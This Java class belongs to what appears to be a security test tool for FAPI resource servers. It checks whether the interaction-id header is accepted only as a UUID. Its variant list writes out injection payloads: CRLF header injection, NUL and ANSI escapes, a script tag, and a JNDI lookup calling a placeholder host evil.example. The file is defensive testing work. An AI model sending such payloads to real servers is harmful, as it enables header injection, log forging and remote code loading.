package dev.countersign.attacker.recipe.resource;

import dev.countersign.attacker.play.About;
import dev.countersign.attacker.play.Attacker;
import dev.countersign.attacker.play.Caller;
import dev.countersign.attacker.play.Goal;
import dev.countersign.attacker.play.Lab;
import dev.countersign.attacker.play.Need;
import dev.countersign.attacker.play.Play;
import dev.countersign.attacker.play.Recipe;
import dev.countersign.attacker.play.TwinFailedException;
import dev.countersign.attacker.wire.Answer;
import java.io.IOException;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;

/** An interaction id that is more than one: in answers, and maybe in logs. */
final class InteractionId implements Recipe {
  private static final String RULE = "IA-2.2.1-2";
  private static final String FIELD = "x-fapi-interaction-id";
  private static final String MARK = "countersign-attacker-mark";

  /** Our choice: below what servers take of header fields, and far above a UUID. */
  private static final int LONG = 4_000;

  private record Variant(String what, List<String> lines) {}

  @Override
  public About about() {
    return About.of("A7-13", "interaction-id")
        .by(Attacker.A1)
        .endangers(Goal.BEYOND)
        .needs(Need.CLIENT, Need.USER, Need.RESOURCE)
        .stoppedBy(RULE, "an interaction id is a UUID or it is not used")
        .means("Callers write header fields into answers and lines of their own into logs.")
        .change("Take the field over only if it is one UUID, and make one otherwise.");
  }

  @Override
  public void play(Play play, Lab lab) throws IOException {
    Stolen stolen = Stolen.of(lab.client(), play, lab);
    String good = UUID.randomUUID().toString();
    Answer twin =
        play.twin("with a UUID", () -> let(send(lab, stolen, List.of(FIELD + ": " + good))));
    boolean same = twin.header(FIELD).filter(good::equalsIgnoreCase).isPresent();
    play.should("a UUID comes back", same, same ? "it does" : "it does not", RULE);
    int most = lab.target().bounds().heavy() ? 1_000_000 : LONG;
    for (Variant variant : variants(most)) {
      judge(play, variant, send(lab, stolen, variant.lines()));
    }
  }

  private static Answer let(Answer answer) throws TwinFailedException {
    if (!answer.isSuccess()) {
      throw new TwinFailedException("the resource answered " + answer.brief());
    }
    return answer;
  }

  private static List<Variant> variants(int most) {
    String uuid = UUID.randomUUID().toString();
    return List.of(
        one("no UUID", MARK),
        one("an encoded line end", uuid + "%0d%0aX-Mark: " + MARK),
        one("a bare CR", uuid + "\rX-Mark: " + MARK),
        one("a bare LF", uuid + "\nX-Mark: " + MARK),
        one("a line end and more", uuid + "\r\n X-Mark: " + MARK),
        one("a NUL", uuid + "\0" + MARK),
        one("colours of a terminal", "\u001b[31m" + MARK + "\u001b[0m"),
        one("markup", "<script>" + MARK + "</script>"),
        one("a name to look up", "${jndi:ldap://evil.example/" + MARK + "}"),
        one("a line end of Unicode", uuid + "\u00e2\u0080\u00a8" + MARK),
        one("a UUID and more", uuid + " " + MARK),
        one(most + " characters", MARK + "a".repeat(most)),
        new Variant("two of them", List.of(FIELD + ": " + uuid, FIELD + ": " + MARK)));
  }

  private static Variant one(String what, String value) {
    return new Variant(what, List.of(FIELD + ": " + value));
  }

  private static void judge(Play play, Variant variant, Answer answer) {
    boolean injected = answer.header("X-Mark").isPresent();
    boolean echoed = answer.headers().all(FIELD).stream().anyMatch(one -> one.contains(MARK));
    play.holds(
        variant.what() + " adds no field",
        !injected,
        "the answer (" + answer.brief() + ") " + (injected ? "has" : "has not") + " the field",
        RULE);
    play.should(
        variant.what() + " does not come back",
        !echoed && answer.status() < 500,
        "answered " + answer.brief() + (echoed ? " with what was sent" : " without it"),
        RULE);
  }

  /** The right request otherwise, with a fresh proof. */
  private static Answer send(Lab lab, Stolen stolen, List<String> lines) throws IOException {
    Caller client = stolen.client();
    URI url = stolen.resource().url();
    List<String> fields = new ArrayList<>();
    fields.add("Authorization: " + (client.provesKey() ? "DPoP " : "Bearer ") + stolen.token());
    if (client.provesKey()) {
      fields.add("DPoP: " + client.proof("GET", url, Optional.of(stolen.token())).compact());
    }
    fields.addAll(lines);
    return Raw.send(lab, url, "GET " + Raw.target(url), fields, client.client().certificate());
  }
}
